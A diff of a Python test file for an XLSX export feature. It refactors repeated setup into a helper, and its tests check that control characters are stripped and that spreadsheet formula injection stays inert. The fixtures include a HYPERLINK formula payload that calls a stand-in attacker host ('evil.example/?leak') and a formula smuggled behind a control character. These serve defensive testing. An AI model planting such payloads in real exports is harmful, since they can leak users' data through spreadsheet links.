@@ -72,16 +72,21 @@ def test_xlsx_keeps_numbers_as_numbers_and_escapes_text():
     assert rows[2][3] == 0 and rows[2][4] is None
 
 
+def _xlsx_of_one(doc):
+    """The XLSX bytes of ``doc`` exported with the owner's name in full."""
+    chunks = []
+    sink = exports.Chunks(lambda n, data: chunks.append(data), exports.CHUNK_BYTES)
+    assert exports.write_xlsx(COLUMNS, iter([doc]), {personal_data.OWNER_NAME}, sink) == 1
+    sink.close()
+    return b"".join(chunks)
+
+
 def test_xlsx_drops_the_control_characters_a_worksheet_cannot_hold():
     """A name pasted with a control character made openpyxl refuse the whole file: every XLSX
     export failed for the roles that see names in full."""
-    chunks = []
-    sink = exports.Chunks(lambda n, data: chunks.append(data), exports.CHUNK_BYTES)
-    pasted = [{"_id": "hh_3", "owner": {"name": "欧阳\u0007小明", "phone": "13800138000"}, "amount_cents": 1,
-               "note": "a\x1bb"}]
-    assert exports.write_xlsx(COLUMNS, iter(pasted), {personal_data.OWNER_NAME}, sink) == 1
-    sink.close()
-    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(chunks))).active
+    content = _xlsx_of_one({"_id": "hh_3", "owner": {"name": "欧阳\u0007小明", "phone": "13800138000"},
+                            "amount_cents": 1, "note": "a\x1bb"})
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
     assert [list(r) for r in sheet.iter_rows(values_only=True)][1][1:2] == ["欧阳小明"]
 
 
@@ -89,13 +94,8 @@ def test_a_formula_behind_a_control_character_stays_text_in_xlsx():
     """Found by review: an owner-portal description "\x01=HYPERLINK(...)" escaped nothing (it did
     not start with "="), then lost its control character to the worksheet and became a live formula."""
     import zipfile
-    chunks = []
-    sink = exports.Chunks(lambda n, data: chunks.append(data), exports.CHUNK_BYTES)
-    planted = [{"_id": "hh_4", "owner": {"name": "\x02=1+1", "phone": "13800138000"}, "amount_cents": 1,
-                "note": '\x01=HYPERLINK("https://evil.example/?leak","Click")'}]
-    assert exports.write_xlsx(COLUMNS, iter(planted), {personal_data.OWNER_NAME}, sink) == 1
-    sink.close()
-    content = b"".join(chunks)
+    content = _xlsx_of_one({"_id": "hh_4", "owner": {"name": "\x02=1+1", "phone": "13800138000"}, "amount_cents": 1,
+                            "note": '\x01=HYPERLINK("https://evil.example/?leak","Click")'})
     with zipfile.ZipFile(io.BytesIO(content)) as book:
         assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
     row = [list(r) for r in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)][1]
